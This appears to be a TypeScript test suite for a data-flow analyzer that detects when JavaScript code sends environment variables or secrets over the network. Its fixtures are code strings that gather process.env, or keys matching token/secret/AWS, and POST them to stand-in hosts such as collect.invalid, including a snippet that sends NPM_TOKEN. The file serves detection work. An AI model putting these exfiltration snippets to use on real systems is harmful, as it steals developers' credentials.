import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const SENT = ['environment>network@collect.invalid'];

/** Code that goes through the environment and keeps some of it by `picks`, in the ways that programs are written. */
const WAYS: readonly ((picks: string) => string)[] = [
  (picks) => `for (const k of Object.keys(process.env)) if (${picks}) p[k] = process.env[k];`,
  (picks) => `for (const k in process.env) if (${picks}) p[k] = process.env[k];`,
  (picks) => `for (const [k, v] of Object.entries(process.env)) { if (!(${picks})) continue; p[k] = v; }`,
  (picks) => `Object.keys(process.env).forEach((k) => { if (${picks}) p[k] = process.env[k]; });`,
  (picks) => `p.all = Object.keys(process.env).filter((k) => ${picks}).map((k) => process.env[k]);`,
  (picks) => `p.all = Object.entries(process.env).filter(([k]) => ${picks}).map(([, v]) => v);`,
  (picks) =>
    `p.all = Object.keys(process.env).filter((k) => ${picks}).reduce((t, k) => { t[k] = process.env[k]; return t; }, {});`,
  (picks) => `p.all = Object.entries(process.env).reduce((t, [k, v]) => { if (${picks}) t[k] = v; return t; }, {});`,
];

/** Settings of one program, by their names: the proxy's, those of `debug`, of a build tool. */
const OF_A_PROGRAM: readonly string[] = [
  `['http_proxy', 'no_proxy'].includes(k.toLowerCase())`,
  `names.has(k)`,
  `/^debug_/i.test(k)`,
  `k.startsWith('VITE_')`,
  `k.toLowerCase() === 'https_proxy'`,
];

const TELLING: readonly string[] = [
  `true`,
  `/token|secret|key/i.test(k)`,
  `k.startsWith('AWS_')`,
  `!k.startsWith('npm_')`,
];

const sendsBy = (way: string): readonly string[] =>
  flowsOf(
    `const names = new Set(['http_proxy', 'no_proxy']), p = {}; ${way} fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(p) });`,
  );

describe('the environment', () => {
  for (const way of WAYS) {
    it(`is not sent by who picks the settings of a program: ${way('…')}`, () => {
      for (const picks of OF_A_PROGRAM) assert.deepEqual(sendsBy(way(picks)), [], picks);
    });

    it(`is sent by who takes all of it, or its secrets: ${way('…')}`, () => {
      for (const picks of TELLING) assert.deepEqual(sendsBy(way(picks)), SENT, picks);
    });
  }

  it('may have any other variable, and any number of them', () => {
    const steal = `fetch('https://collect.invalid', { method: 'POST', body: process.env.NPM_TOKEN });`;
    for (const condition of [`Object.keys(process.env).includes('CI')`, `Object.keys(process.env).length > 20`])
      assert.deepEqual(flowsOf(`if (${condition}) ${steal}`), ['secret-variable>network@collect.invalid'], condition);
    assert.deepEqual(flowsOf(`for (const k in process.env) if (k === 'CI') ${steal}`), [
      'secret-variable>network@collect.invalid',
    ]);
  });

  it('is picked by a list of names that grows', () => {
    const grows = `names.add(process.argv[2] || 'x'); if (process.argv[3]) names.add('NPM_TOKEN');`;
    assert.deepEqual(sendsBy(`${grows} ${WAYS[0]?.('names.has(k)') ?? ''}`), SENT);
  });

  it('tells all there is wherever it is asked for by', () => {
    const sent = (env: string) =>
      flowsOf(`fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(${env}) });`);
    for (const env of ['Bun.env', 'process.report.getReport().environmentVariables'])
      assert.deepEqual(sent(env), ['environment>network@collect.invalid'], env);
    assert.deepEqual(
      flowsOf(
        `const { environmentVariables: e, header: h } = process.report.getReport(); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ e, h }) });`,
      ),
      ['environment>network@collect.invalid'],
    );
  });

  it('is asked for one variable by a name of which a part is known (node-pre-gyp)', () => {
    const host = (name: string) =>
      flowsOf(`exports.install = (o) => fetch('https://mirror.invalid/' + process.env[${name}]);`);
    assert.deepEqual(host(`'npm_config_' + o.module + '_binary_host_mirror'`), []);
    assert.deepEqual(host('o.module'), ['environment>network@mirror.invalid']);
    assert.deepEqual(host(`o.module + '_ACCESS_TOKEN'`), ['secret-variable>network@mirror.invalid']);
  });
});
